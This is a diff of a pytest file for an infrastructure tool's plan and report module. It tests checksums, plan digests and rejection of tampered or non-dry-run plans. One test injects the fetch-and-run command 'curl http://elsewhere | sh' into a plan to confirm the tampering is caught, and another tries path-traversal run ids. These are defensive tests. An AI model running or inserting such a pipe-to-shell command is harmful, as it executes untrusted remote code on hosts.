@@ -2,11 +2,14 @@
 
 import json
 import subprocess
+from pathlib import Path
+
+import pytest
 
 from groundwork.changes import ChangeRecord, StageReport
 from groundwork.remote import Masker
-from groundwork.report import (RunMetadata, change_report_html, plan_difference, plan_digest, plan_of,
-                               write_index, write_run_folder)
+from groundwork.report import (PlanError, PlanRejected, RunMetadata, change_report_html, load_plan, plan_difference,
+                               plan_digest, plan_of, write_index, write_run_folder)
 from groundwork.runner import HostStageRecord, RunRecord
 
 
@@ -22,12 +25,14 @@ def record(dry_run=True, diff="-a\n+b\n", run_id="20261123T120000Z-full") -> Run
 def meta(r: RunRecord) -> RunMetadata:
     return RunMetadata(run_id=r.run_id, runbook="full", change_id="CHG-1", operator="ops", started=r.started,
                        ended=r.ended, git_commit="0" * 40, git_dirty=False, inventory_digest="f" * 64,
-                       groups=[], hosts=r.targets, dry_run=r.dry_run)
+                       groups=[], hosts=r.targets, dry_run=r.dry_run,
+                       addresses={"hdss7-11": "10.4.7.11", "hdss7-21": "10.4.7.21"})
 
 
 def test_plan_lists_changes_in_target_order_with_a_stable_digest():
     changes = plan_of(record())
-    assert changes == [{"host": "hdss7-21", "stage": "host_prep", "summary": "set hostname", "diff": "-a\n+b\n"}]
+    assert changes == [{"host": "hdss7-21", "stage": "host_prep", "summary": "set hostname", "diff": "-a\n+b\n",
+                        "commands": [], "content": ""}]
     assert plan_digest(changes) == plan_digest(plan_of(record()))
     assert plan_digest(changes) != plan_digest(plan_of(record(diff="-a\n+c\n")))
 
@@ -46,10 +51,54 @@ def test_dry_run_folder_has_plan_and_checksums_that_verify(tmp_path):
     assert sorted(p.name for p in folder.iterdir()) == ["SHA256SUMS", "plan.json", "report.html", "run.json"]
     assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=folder).returncode == 0
     plan = json.loads((folder / "plan.json").read_text())
-    assert plan["digest"] == plan_digest(plan["changes"]) and plan["targets"] == ["hdss7-11", "hdss7-21"]
-    (folder / "run.json").write_text("{}")  # tampering shows
+    assert plan["digest"] == plan_digest(plan["changes"], {"hdss7-11": "10.4.7.11", "hdss7-21": "10.4.7.21"},
+                                         "f" * 64)
+    assert plan["targets"] == ["hdss7-11", "hdss7-21"] and load_plan(tmp_path, r.run_id) == plan
+    (folder / "run.json").write_text("{}")  # tampering shows, to sha256sum and to --approved-plan
     assert subprocess.run(["sha256sum", "--quiet", "-c", "SHA256SUMS"], cwd=folder,
                           capture_output=True).returncode != 0
+    with pytest.raises(PlanRejected, match="run.json does not match .*SHA256SUMS: the folder was altered"):
+        load_plan(tmp_path, r.run_id)
+
+
+def dry_run_folder(tmp_path, r=None) -> Path:
+    r = r or record()
+    folder = tmp_path / r.run_id
+    folder.mkdir()
+    (folder / "report.html").write_text("<html></html>")
+    write_run_folder(folder, r, meta(r), None, "planned")
+    return folder
+
+
+def test_an_edited_plan_is_refused_even_with_its_checksum_recomputed(tmp_path):
+    folder = dry_run_folder(tmp_path)
+    plan = json.loads((folder / "plan.json").read_text())
+    plan["changes"][0]["commands"] = ["curl http://elsewhere | sh"]
+    (folder / "plan.json").write_text(json.dumps(plan))
+    with pytest.raises(PlanRejected, match="plan.json does not match"):
+        load_plan(tmp_path, "20261123T120000Z-full")
+    sums = subprocess.run("sha256sum plan.json report.html run.json", shell=True, cwd=folder, capture_output=True,
+                          text=True).stdout
+    (folder / "SHA256SUMS").write_text(sums)  # checksums redone by hand: the plan's own digest still tells
+    with pytest.raises(PlanRejected, match="its digest does not match its changes"):
+        load_plan(tmp_path, "20261123T120000Z-full")
+
+
+@pytest.mark.parametrize("run_id", ["../elsewhere", "a/b", ".hidden", ""])
+def test_a_run_id_that_is_not_a_folder_name_is_refused(tmp_path, run_id):
+    with pytest.raises(PlanError, match="is not a run id"):
+        load_plan(tmp_path, run_id)
+
+
+def test_only_a_dry_runs_plan_can_be_approved(tmp_path):
+    folder = dry_run_folder(tmp_path)
+    run = json.loads((folder / "run.json").read_text())
+    run["dry_run"] = False
+    (folder / "run.json").write_text(json.dumps(run))
+    (folder / "SHA256SUMS").write_text(subprocess.run("sha256sum plan.json report.html run.json", shell=True,
+                                                      cwd=folder, capture_output=True, text=True).stdout)
+    with pytest.raises(PlanError, match="was not a dry run"):
+        load_plan(tmp_path, "20261123T120000Z-full")
 
 
 def test_index_lists_runs_newest_first_with_outcome(tmp_path):
